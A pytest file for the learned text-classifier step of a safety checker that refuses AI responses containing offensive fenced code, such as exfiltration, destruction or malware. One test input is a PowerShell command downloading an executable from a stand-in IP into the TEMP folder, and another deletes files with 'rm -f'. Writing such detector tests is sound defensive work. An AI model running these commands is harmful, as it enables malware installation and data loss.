"""The learned text step (`redline/redlines/learned_text.py`) and its fitting."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import numpy as np
import pytest

from redline.constitution import load_constitution
from redline.redlines import judge_response
from redline.redlines.capabilities import Capability
from redline.redlines.learned_text import (
    FEATURES,
    LEARNED_TEXT,
    MODEL_PATH,
    LearnedText,
    TextModel,
    features,
    read_model,
    reads,
    word_bucket,
    write_model,
)

_MARK = "frobnicatewidget"
"""A word no rule reads, weighed heavily by the stand-in model below."""


def _stand_in(threshold: float = 0.5) -> LearnedText:
    weights = np.zeros(FEATURES, dtype=np.float32)
    weights[word_bucket(_MARK)] = 100.0  # one feature of a unit-length row of ~100
    names = tuple(c.value for c in Capability)
    centroids = np.zeros((2, len(names)), dtype=np.float32)
    centroids[0, names.index(Capability.NET_SEND.value)] = 1.0
    centroids[1, names.index(Capability.DELETE_FILE.value)] = 1.0
    model = TextModel(weights, -5.0, threshold)
    return LearnedText(model, names, ("RL-EXFIL", "RL-DESTRUCTIVE"), centroids, "{}")


def _fenced(code: str) -> str:
    return f"Here it is:\n\n```bash\n{code}\n```\n"


@pytest.fixture
def stand_in(monkeypatch: pytest.MonkeyPatch) -> Iterator[LearnedText]:
    model = _stand_in()
    monkeypatch.setattr("redline.redlines.judge.learned_text", lambda: model)
    yield model


def test_features_are_unit_length_and_ignore_case_and_runs_of_space() -> None:
    indices, values = features("Copy  the FILE\tthen\n\nstop")
    again_indices, again_values = features("copy the file\tthen stop")
    assert np.array_equal(indices, again_indices)
    assert np.allclose(values, again_values)
    assert float(values @ values) == pytest.approx(1.0, abs=1e-5)
    assert indices.max() < FEATURES


def test_features_of_an_empty_or_tiny_text_are_empty_or_words_only() -> None:
    assert len(features("")[0]) == 0
    indices, _ = features("ls")
    assert len(indices) == 1 and indices[0] == word_bucket("ls")


def test_the_same_text_always_hashes_to_the_same_features() -> None:
    text = "Invoke-WebRequest -Uri https://203.0.113.7/x -OutFile $env:TEMP\\x.exe"
    first, second = features(text), features(text)
    assert np.array_equal(first[0], second[0]) and np.array_equal(first[1], second[1])


def test_responses_are_read_only_with_fenced_code() -> None:
    assert reads("```bash\nls\n```")
    assert not reads("Here is how it works, in prose.")


def test_a_response_the_model_weighs_is_refused_citing_the_step_and_its_word(
    stand_in: LearnedText,
) -> None:
    response = _fenced(f"{_MARK} --all /srv/data")
    verdict = judge_response(response)
    assert verdict.refused
    assert verdict.redlines == ("RL-MALWARE",)  # no capability found: the fallback redline
    assert any(note.startswith(LEARNED_TEXT) for note in verdict.notes)
    assert [span.text for span in verdict.evidence] == [_MARK]
    assert not judge_response(response, learned=False).refused
    assert not judge_response(_fenced("ls -la /srv/data")).refused


def test_prose_is_not_read(stand_in: LearnedText) -> None:
    assert not judge_response(f"The tool {_MARK} is described in its manual.").refused


def test_the_redline_is_the_one_whose_capabilities_are_most_alike(stand_in: LearnedText) -> None:
    verdict = judge_response(_fenced(f"{_MARK}\nrm -f /srv/data/old/*.tmp"))
    assert verdict.refused
    assert verdict.redlines == ("RL-DESTRUCTIVE",)


def test_a_redline_the_constitution_dropped_is_not_enforced(stand_in: LearnedText) -> None:
    constitution = load_constitution()
    kept = tuple(r for r in constitution.redlines if r.id != "RL-MALWARE")
    edited = constitution.model_copy(update={"redlines": kept})
    assert not judge_response(_fenced(f"{_MARK} --all"), constitution=edited).refused
    assert judge_response(_fenced(f"{_MARK} --all")).refused


def test_below_the_threshold_nothing_changes(monkeypatch: pytest.MonkeyPatch) -> None:
    model = _stand_in(threshold=0.9999)
    monkeypatch.setattr("redline.redlines.judge.learned_text", lambda: model)
    assert not judge_response(_fenced(f"{_MARK} --all")).refused


def test_a_written_model_reads_back_the_same(tmp_path: Path) -> None:
    model = _stand_in()
    path = tmp_path / "learned_text.npz"
    write_model(path, model)
    back = read_model(path)
    assert back.model.threshold == model.model.threshold
    assert back.redline_ids == model.redline_ids
    assert back.capability_names == model.capability_names
    text = f"{_MARK} x"
    assert back.model.probability(text) == pytest.approx(model.model.probability(text), rel=1e-3)


def test_a_model_of_the_wrong_shape_is_an_error_naming_the_file(tmp_path: Path) -> None:
    path = tmp_path / "broken.npz"
    np.savez(path, weights=np.zeros(3))
    with pytest.raises(ValueError, match=r"broken\.npz: scalars"):
        read_model(path)
    write_model(path, _stand_in())
    with np.load(path) as body:
        parts = dict(body)
    parts["weights"] = parts["weights"][:10]
    np.savez(path, **parts)
    with pytest.raises(ValueError, match=r"broken\.npz: weights: 10 of them"):
        read_model(path)


def test_the_shipped_model_was_fitted_on_the_repository_as_it_is() -> None:
    from redline.redlines.learned_text_training import _data_record

    record = json.loads(read_model(MODEL_PATH).record)
    assert record["data"] == _data_record(), "run `redline train --part text`"


def test_fitting_is_deterministic_and_learns_what_tells_the_rows_apart() -> None:
    from redline.redlines.learned_text_training import fit, matrix

    offensive = [f"```\n{_MARK} --target host{n}\n```" for n in range(20)]
    allowed = [f"```\nls --color host{n}\n```" for n in range(20)]
    features_ = matrix(offensive + allowed)
    labels = np.array([True] * 20 + [False] * 20)
    (first, first_bias), (second, second_bias) = fit(features_, labels), fit(features_, labels)
    assert np.array_equal(first, second) and first_bias == second_bias
    model = TextModel(first, first_bias, 0.5)
    assert model.probability(offensive[0]) > 0.5 > model.probability(allowed[0])
